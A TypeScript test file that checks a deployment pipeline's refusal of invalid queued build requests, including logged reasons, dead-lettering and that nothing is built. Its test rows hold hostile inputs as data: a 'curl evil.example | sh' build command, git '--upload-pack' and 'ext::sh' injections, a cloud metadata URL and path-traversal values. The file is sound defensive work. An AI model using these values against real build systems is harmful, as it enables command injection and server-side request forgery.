/** What a queue may hold that is no good request, through the whole pipeline: refused with a reason, kept, and nothing is built. */
import { failureMessage } from '../../src/contract/failure-codes';
import { LocalPipeline, until } from '../support/local-pipeline';
import { buildRequest, COMMIT_SHA } from '../support/requests';

interface Row {
  readonly name: string;
  /** The message as the queue holds it. */
  readonly body: string;
  /** What the orchestrator's log, and the record where there is one, say about it. */
  readonly problem: string;
  /** Missing: no deployment can be found in the message. */
  readonly deploymentId?: string;
}

let pipeline: LocalPipeline;
const messageIds = new Map<string, string>();
let deadLetters: Map<string, string>;

let count = 0;

/** A request that is right but for what is changed in it; `undefined` leaves a field out. */
function bad(name: string, change: Record<string, unknown>, problem: string): Row {
  const deploymentId = `bad-${++count}`;
  const readable = !('deploymentId' in change);
  return { name, problem, body: JSON.stringify({ ...buildRequest({ deploymentId }), ...change }), deploymentId: readable ? deploymentId : undefined };
}

const repoUrl = (name: string, url: string, problem: string) => bad(`repoUrl: ${name}`, { repoUrl: url }, `repoUrl ${problem}`);
const rootDirectory = (name: string, directory: unknown, problem = 'must be a relative path below the repository') =>
  bad(`rootDirectory: ${name}`, { rootDirectory: directory }, `rootDirectory ${problem}`);
const id = (field: string, name: string, value: unknown, problem = 'must be 1 to 128 letters') => bad(`${field}: ${name}`, { [field]: value }, `${field} ${problem}`);

const NOT_SAFE_IDS: [string, unknown, string?][] = [
  ['a path', 'a/b'], ['the parent directory', '..'], ['option-like', '-rf'], ['empty', ''], ['white space', 'a b'], ['a line break', 'a\n'],
  ['a NUL', 'a\0'], ['beyond ASCII', 'é'], ['longer than 128', 'a'.repeat(129)], ['a number', 7, 'is missing or not a string'], ['missing', undefined, 'is missing'],
];

const ROWS: Row[] = [
  { name: 'no JSON', body: '{"deploymentId": "bad-json"', problem: 'the message is not JSON' },
  { name: 'empty but for a blank', body: ' ', problem: 'the message is not JSON' },
  { name: 'a list', body: '[]', problem: 'the message is not a JSON object' },
  { name: 'null', body: 'null', problem: 'the message is not a JSON object' },
  { name: 'an empty object', body: '{}', problem: 'deploymentId is missing' },

  bad('commitSha: missing', { commitSha: undefined }, 'commitSha is missing'),
  bad('repoUrl: missing', { repoUrl: undefined }, 'repoUrl is missing'),
  bad('branch: missing', { branch: undefined }, 'branch is missing'),
  bad('an unknown field', { buildCommand: 'curl evil.example | sh' }, 'unknown field "buildCommand"'),

  bad('branch: longer than 255', { branch: 'b'.repeat(256) }, 'branch must be at most 255 characters'),
  bad('branch: option-like', { branch: '--upload-pack=evil' }, 'branch must be a branch name'),
  bad('branch: empty', { branch: '' }, 'branch must not be empty'),
  repoUrl('longer than 2048', `https://github.com/${'a'.repeat(2048)}`, 'must be at most 2048 characters'),
  rootDirectory('longer than 512', 'a'.repeat(513), 'must be at most 512 characters'),

  ...[
    ['a branch', 'main'], ['abbreviated', COMMIT_SHA.slice(0, 12)], ['upper case', COMMIT_SHA.toUpperCase()], ['41 digits', `${COMMIT_SHA}0`],
    ['no hex digits', 'z'.repeat(40)], ['with a line break', `${COMMIT_SHA}\n`],
  ].map(([name, sha]) => bad(`commitSha: ${name}`, { commitSha: sha }, 'commitSha must be a full commit SHA')),

  repoUrl('http', 'http://github.com/acme/shop.git', 'must begin with https://'),
  repoUrl('ssh', 'ssh://git@github.com/acme/shop.git', 'must begin with https://'),
  repoUrl('ssh without a scheme', 'git@github.com:acme/shop.git', 'must begin with https://'),
  repoUrl('file', 'file:///etc', 'must begin with https://'),
  repoUrl('a path', '/etc', 'must begin with https://'),
  repoUrl('ext::', 'ext::sh -c touch% /hacked', 'must not contain white space'),
  repoUrl('ext:: without white space', 'ext::sh', 'must begin with https://'),
  repoUrl('option-like', '--upload-pack=evil', 'must begin with https://'),
  repoUrl('user and password', 'https://user:secret@github.com/acme/shop.git', 'must not contain a user name'),
  repoUrl('token', 'https://token@github.com/acme/shop.git', 'must not contain a user name'),
  repoUrl('white space', 'https://github.com/acme/my shop.git', 'must not contain white space'),
  repoUrl('a line break', 'https://github.com/acme/shop.git\n--evil', 'must not contain white space'),
  repoUrl('an address of the instance', 'https://169.254.169.254/latest', 'must name a public host'),
  repoUrl('this machine', 'https://localhost/shop.git', 'must name a public host'),
  repoUrl('no path', 'https://github.com/', 'must have a path'),

  rootDirectory('..', '..'), rootDirectory('.. inside', 'apps/../../etc'), rootDirectory('absolute', '/etc'), rootDirectory('option-like', 'apps/-rf'),
  rootDirectory('backslash', 'apps\\web'), rootDirectory('empty', ''), rootDirectory('a number', 7, 'is not a string'),

  ...NOT_SAFE_IDS.flatMap(([name, value, problem]) => [id('deploymentId', name, value, problem), id('projectId', name, value, problem)]),
];

const TAKEN = { ...buildRequest({ deploymentId: 'taken', projectId: 'its-owner' }), status: 'queued', createdAt: '2026-11-22T12:00:00.000Z', note: 'of the owner' };
const FINISHED = { ...buildRequest({ deploymentId: 'finished' }), status: 'success', createdAt: '2026-11-22T12:00:00.000Z', completedAt: '2026-11-22T12:05:00.000Z' };
const KEPT = {
  ...buildRequest({ deploymentId: 'kept' }), status: 'queued', createdAt: '2026-11-22T11:00:00.000Z', userId: 'user-1', labels: { team: 'shop' }, pullRequest: 7,
};

beforeAll(async () => {
  pipeline = await LocalPipeline.start();
  for (const record of [TAKEN, FINISHED, KEPT]) await pipeline.putRecord(record);
  const messages: [string, string][] = [
    ...ROWS.map(({ name, body }): [string, string] => [name, body]),
    ['taken', JSON.stringify(buildRequest({ deploymentId: 'taken', projectId: 'somebody-else' }))],
    ['taken, and bad', JSON.stringify({ ...buildRequest({ deploymentId: 'taken', projectId: 'somebody-else' }), branch: '..' })],
    ['finished', JSON.stringify(buildRequest({ deploymentId: 'finished' }))],
    ['kept', JSON.stringify({ ...buildRequest({ deploymentId: 'kept' }), branch: '..' })],
  ];
  for (const [name, body] of messages) messageIds.set(name, await pipeline.sendText(body));
  deadLetters = new Map();
  await until('all but one message are in the dead-letter queue', async () => {
    (await pipeline.takeDeadLetters()).forEach((body, messageId) => deadLetters.set(messageId, body));
    return deadLetters.size === messages.length - 1;
  }, 120_000);
}, 150_000);
afterAll(() => pipeline?.close());

describe.each(ROWS.map((row) => [row.name, row] as const))('%s', (name, { body, problem, deploymentId }) => {
  test('is not lost: the dead-letter queue has it as it was', () => {
    expect(deadLetters.get(messageIds.get(name)!)).toBe(body);
  });

  test('is refused with a reason in the orchestrator\'s log, at each of its receives', () => {
    const reasons = pipeline.logs.filter(({ messageId, level }) => messageId === messageIds.get(name) && level === 'ERROR');
    expect(reasons).toHaveLength(3);
    for (const reason of reasons) expect(reason).toMatchObject({ message: expect.stringContaining('not valid'), problem: expect.stringContaining(problem) });
  });

  if (deploymentId) {
    test('ends the deployment with a sentence that names the field', async () => {
      const record = (await pipeline.record(deploymentId))!;
      expect(record).toMatchObject({ deploymentId, status: 'failed', failureCode: 'INVALID_REQUEST' });
      expect(record.failureMessage).toContain(failureMessage('INVALID_REQUEST'));
      expect(record.failureMessage).toContain(problem);
      expect(record).not.toHaveProperty('buildId');
    });
  }
});

test('nothing is built', async () => {
  expect(await pipeline.builds()).toEqual([]);
});

test('what of a bad request is good stands in the record, the rest does not', async () => {
  const { deploymentId } = ROWS.find(({ name }) => name === 'repoUrl: user and password')!;
  const { projectId, commitSha, branch } = buildRequest();
  const record = await pipeline.record(deploymentId!);
  expect(record).toEqual({
    deploymentId,
    projectId,
    commitSha,
    branch,
    status: 'failed',
    failureCode: 'INVALID_REQUEST',
    failureMessage: expect.any(String),
    version: 1,
    announcedVersion: 1,
    createdAt: expect.any(String),
    completedAt: expect.any(String),
  });
  expect(JSON.stringify(record)).not.toContain('secret');
});

test('a deployment id that another project holds: the record stays as it is, the message goes to the dead-letter queue', async () => {
  expect(await pipeline.record('taken')).toEqual(TAKEN);
  expect(deadLetters.has(messageIds.get('taken')!)).toBe(true);
  expect(deadLetters.has(messageIds.get('taken, and bad')!)).toBe(true);
  expect(pipeline.logs).toContainEqual(expect.objectContaining({ messageId: messageIds.get('taken'), level: 'ERROR', message: expect.stringContaining('already taken') }));
});

test('a duplicate of a finished deployment\'s message is acknowledged and changes nothing', async () => {
  await pipeline.queueEmpty();
  expect(deadLetters.has(messageIds.get('finished')!)).toBe(false);
  expect(await pipeline.record('finished')).toEqual(FINISHED);
});

test('a record that the producer wrote keeps what only the producer knows', async () => {
  const { userId, labels, pullRequest, createdAt } = KEPT;
  expect(await pipeline.record('kept')).toMatchObject({ status: 'failed', failureCode: 'INVALID_REQUEST', userId, labels, pullRequest, createdAt, branch: 'main' });
});
